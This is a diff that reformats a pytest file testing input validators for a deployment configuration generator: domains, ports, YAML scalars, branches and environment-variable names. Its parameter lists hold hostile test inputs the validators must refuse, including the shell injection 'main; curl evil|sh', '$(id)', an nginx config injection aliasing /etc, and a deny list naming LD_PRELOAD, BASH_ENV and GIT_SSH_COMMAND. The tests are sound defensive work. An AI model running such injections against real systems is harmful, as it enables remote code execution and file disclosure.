@@ -43,11 +43,37 @@ def test_E1_the_tree_cannot_hold_what_the_grammar_would_have_to_refuse() -> None
 @pytest.mark.parametrize(
     "domain",
     [
-        "a.com\nb.com", "a.com\r", "a.com # b", "$host.com", 'a".com', "a'.com", "a\\.com", "~^a.com", "*.a.com", "_.a.com",
-        "_", "localhost", "a", "1.2.3.4", "a.com.", "a..com", "-a.com", "a-.com", "a" * 64 + ".com", "a." * 130 + "com", "",
-        "a.123", "a.test", "a b.com", "a\u3002", "a\x00.com", "\ufeffa.com", "a\u200b.com/", "[::1]",
+        "a.com\nb.com",
+        "a.com\r",
+        "a.com # b",
+        "$host.com",
+        'a".com',
+        "a'.com",
+        "a\\.com",
+        "~^a.com",
+        "*.a.com",
+        "_.a.com",
+        "_",
+        "localhost",
+        "a",
+        "1.2.3.4",
+        "a.com.",
+        "a..com",
+        "-a.com",
+        "a-.com",
+        "a" * 64 + ".com",
+        "a." * 130 + "com",
+        "",
+        "a.123",
+        "a.test",
+        "a b.com",
+        "a\u3002",
+        "a\x00.com",
+        "\ufeffa.com",
+        "a\u200b.com/",
+        "[::1]",
     ],
-)  # fmt: skip
+)
 def test_E2_a_domain_with_anything_but_labels_is_refused(domain: str) -> None:
     for setting in ({"domain": domain}, {"domain": "example.com", "subdomain": domain + "."}):
         with pytest.raises(InvalidValue):
@@ -77,7 +103,9 @@ def test_E3_comments_hold_nothing_that_a_person_set(name: str) -> None:
                 assert not any(canary in line for canary in (*canaries, "canary-environment")), path
 
 
-@pytest.mark.parametrize("port", [0, -1, 65536, 99999, True, "3000", "3000/; } location /x { alias /etc/", 3000.0, None])
+@pytest.mark.parametrize(
+    "port", [0, -1, 65536, 99999, True, "3000", "3000/; } location /x { alias /etc/", 3000.0, None]
+)
 def test_E4_a_port_is_a_whole_number_in_range(port: Any) -> None:
     with pytest.raises(InvalidValue):
         grammar.port("port", port)
@@ -117,7 +145,8 @@ def test_E6_the_value_of_a_variable_never_reaches_the_yaml(value: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "text", ["yes", "no", "on", "0123", "0o17", "0x1f", "1e3", "1_000", "null", "~", "2026-01-01", "12:30:45", ".5", "y", "="]
+    "text",
+    ["yes", "no", "on", "0123", "0o17", "0x1f", "1e3", "1_000", "null", "~", "2026-01-01", "12:30:45", ".5", "y", "="],
 )
 def test_E7_words_that_yaml_takes_for_something_else_stay_texts(text: str) -> None:
     from ruamel.yaml import YAML
@@ -130,16 +159,24 @@ def test_E7_words_that_yaml_takes_for_something_else_stay_texts(text: str) -> No
     assert YAML(typ="safe").load(written) == data
 
 
-@pytest.mark.parametrize("character", ["\x00", "\x07", "\x1b", "\x7f", "\x85", "\u2028", "\ufeff", "\ud800", "\n", "\r"])
+@pytest.mark.parametrize(
+    "character", ["\x00", "\x07", "\x1b", "\x7f", "\x85", "\u2028", "\ufeff", "\ud800", "\n", "\r"]
+)
 def test_E8_control_characters_are_refused_everywhere(character: str) -> None:
-    for setting in ({"domain": f"a{character}.com"}, {"env": (("A", f"x{character}"),)}, {"server": f"a{character}.com"}):
+    for setting in (
+        {"domain": f"a{character}.com"},
+        {"env": (("A", f"x{character}"),)},
+        {"server": f"a{character}.com"},
+    ):
         with pytest.raises(InvalidValue):
             Request(**setting)  # type: ignore[arg-type]
     with pytest.raises(InvalidValue):
         EnvironmentRequest(branch=f"main{character}")
 
 
-@pytest.mark.parametrize("branch", ["main; curl evil|sh", "$(id)", "`id`", "a b", "a..b", "-x", "a'b", "a\\b", "a{b", "x.lock"])
+@pytest.mark.parametrize(
+    "branch", ["main; curl evil|sh", "$(id)", "`id`", "a b", "a..b", "-x", "a'b", "a\\b", "a{b", "x.lock"]
+)
 def test_E9_a_branch_is_a_name_or_a_glob(branch: str) -> None:
     with pytest.raises(InvalidValue, match="branch"):
         EnvironmentRequest(branch=branch)
@@ -166,8 +203,23 @@ def test_E9_an_application_object_is_a_module_with_a_name() -> None:
 
 
 @pytest.mark.parametrize(
-    "name", ["LD_PRELOAD", "PATH", "BASH_ENV", "GIT_SSH_COMMAND", "BITBUCKET_COMMIT", "a=b", "1X", "a", "A-B", "", "A" * 129, "SSH_PRIVATE_KEY", "RELEASE"]
-)  # fmt: skip
+    "name",
+    [
+        "LD_PRELOAD",
+        "PATH",
+        "BASH_ENV",
+        "GIT_SSH_COMMAND",
+        "BITBUCKET_COMMIT",
+        "a=b",
+        "1X",
+        "a",
+        "A-B",
+        "",
+        "A" * 129,
+        "SSH_PRIVATE_KEY",
+        "RELEASE",
+    ],
+)
 def test_E10_names_that_steer_the_shell_or_the_deployment_are_refused(name: str) -> None:
     with pytest.raises(InvalidValue):
         Request(env=((name, "x"),))
